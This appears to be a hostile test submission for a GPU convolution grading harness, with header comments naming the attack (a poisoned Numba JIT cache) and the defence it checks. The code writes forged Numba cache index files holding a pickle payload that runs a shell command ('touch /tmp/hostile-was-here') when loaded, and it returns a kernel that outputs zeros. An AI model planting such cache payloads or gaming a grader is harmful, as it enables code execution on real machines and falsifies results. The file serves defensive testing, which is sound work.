# Compiled code of another kernel is put into Numba's cache.
# attack: a poisoned JIT cache
# defence: each worker has an empty cache of its own; PTX is compiled anew and read as text
# loses: everything
# says: outputs differ

# %% task: conv_coalesced
import os

import numpy as np
from numba import cuda

from gpulabs.convolution import output_shape

for folder in (os.environ.get("NUMBA_CACHE_DIR", ""), "__pycache__", os.path.expanduser("~/.cache/numba")):
    if folder:
        os.makedirs(folder, exist_ok=True)
        for name in ("zero_kernel", "same_kernel"):
            with open(os.path.join(folder, f"submission.{name}-3.py311.nbi"), "wb") as file:
                file.write(b"cos\nsystem\n(S'touch /tmp/hostile-was-here'\ntR.")


@cuda.jit(cache=True)
def zero_kernel(x, w, y):
    k, j, m = cuda.grid(3)
    n, i = m // y.shape[1], m % y.shape[1]
    if n < y.shape[0] and j < y.shape[2] and k < y.shape[3]:
        y[n, i, j, k] = x[0, 0, 0, 0] * w[0, 0, 0, 0] * np.float32(0)


def conv_coalesced(x, w, stride, padding):
    y = cuda.device_array(output_shape(x.shape, w.shape, stride, padding), np.float32)
    zero_kernel[((y.shape[3] + 31) // 32, y.shape[2], y.shape[0] * y.shape[1]), (32, 1)](x, w, y)
    return y
